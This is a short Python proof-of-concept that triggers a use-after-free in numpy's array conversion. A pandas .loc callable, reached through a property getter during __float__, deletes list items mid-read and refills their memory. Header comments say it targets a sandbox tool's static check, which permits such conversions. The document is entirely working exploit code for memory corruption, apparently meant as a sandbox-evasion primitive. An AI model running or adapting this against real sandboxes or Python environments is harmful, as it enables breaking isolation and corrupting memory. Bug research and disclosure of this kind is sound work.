# source: numpy array_coercion.c PyArray_AssignFromCache_Recursive; pandas _LocationIndexer.__getitem__ (.loc) -> apply_if_callable; sandexec README, "The static check", lets a conversion read a property whose getter only converts
# family: conversion (__float__) reads a property whose getter subscripts .loc with a function, which pandas calls
# goal: the function deletes list items numpy still reads and refills their memory: numpy converts objects never in the list (use-after-free)
import sys
import numpy as np
import pandas as pd

FRAME = pd.DataFrame({"a": [0.0]})
DONE = []
KEEP = []


def pick(frame):
    if not DONE:
        DONE.append(1)
        # numpy read the length (64) once and reads items by index: free items 32..63
        del LST[32:]
        # new objects of the same size take the freed objects' memory
        k = 0
        while k < 40:
            KEEP.append(B(1000.0 + k))
            k += 1
    return 0


class B:
    __slots__ = ("v",)

    def __init__(self, w):
        self.v = w

    def __float__(self):
        return self.v


class A:
    __slots__ = ("v",)

    def __init__(self, v):
        self.v = v

    @property
    def key(self):
        return FRAME.loc[pick]

    def __float__(self):
        return float(self.key) + self.v


LST = list(tuple(A(float(i)) for i in range(64)))
arr = np.array(LST, dtype=float)
print("np.array(LST) gave", len(arr), "values; LST now has", len(LST), "items")
print("values:", arr)
print("values >= 1000 come from B objects never in LST (freed A slots reused):", int((arr >= 1000).sum()))
sys.stdout.flush()
